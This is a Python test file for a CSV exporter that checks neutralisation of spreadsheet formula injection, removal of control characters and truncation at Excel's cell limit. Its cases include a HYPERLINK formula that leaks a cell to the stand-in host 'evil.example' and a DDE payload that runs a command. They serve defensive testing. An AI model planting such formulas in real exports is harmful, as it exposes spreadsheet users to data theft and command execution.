"""The one CSV writer: no cell a spreadsheet would run, no control characters, no cell past Excel's limit."""

import csv
import io
from decimal import Decimal

import pytest

from portal.csv_export import EXCEL_CELL_LIMIT, csv_cell, csv_lines


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "' =1+1"),  # a tab reads as a space, and a formula after it is still one
        ("\r=1+1", "'\n=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\x07=1+1", "'=1+1"),  # the control goes first: what it hid is found
        ("＝1+1", "'＝1+1"),  # full-width, as some locales' Excel reads it
        ("Ada = happy", "Ada = happy"),
        ("2026-11-29T10:14:00+01:00", "2026-11-29T10:14:00+01:00"),
        ("", ""),
        (None, ""),
        (-3, -3),  # a number stays a number: a negative count is no formula
        (0.25, 0.25),
        (Decimal("-1.5"), Decimal("-1.5")),
        (True, "True"),
    ],
)
def test_a_cell_is_written_as_a_spreadsheet_should_read_it(value, written):
    assert csv_cell(value) == written


def test_a_cell_past_excels_limit_is_cut_saying_so():
    long = "Lovely! " * 25_004  # 200,032 characters
    written = csv_cell(long)
    assert len(written) <= EXCEL_CELL_LIMIT and written.startswith("Lovely! Lovely!")
    assert written.endswith(" […cut at Excel's limit of 32,767 characters: 200,032 in all]")
    assert csv_cell("x" * EXCEL_CELL_LIMIT) == "x" * EXCEL_CELL_LIMIT  # at the limit: whole


def test_excels_limit_counts_utf16_units_so_emoji_are_counted_twice():
    emoji = "😀" * 20_000  # 40,000 UTF-16 units
    written = csv_cell(emoji)
    assert len(written.encode("utf-16-le")) // 2 <= EXCEL_CELL_LIMIT
    assert written.startswith("😀😀") and "\ufffd" not in written and written.endswith("20,000 in all]")


def test_the_file_reads_back_with_a_bom_the_header_and_every_row():
    text = "".join(csv_lines(["name", "count"], [["=1+1", -2], ['say "hi", then\nbye', None]]))
    assert text.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(text.removeprefix("\ufeff")))) == [
        ["name", "count"], ["'=1+1", "-2"], ['say "hi", then\nbye', ""]
    ]  # fmt: skip
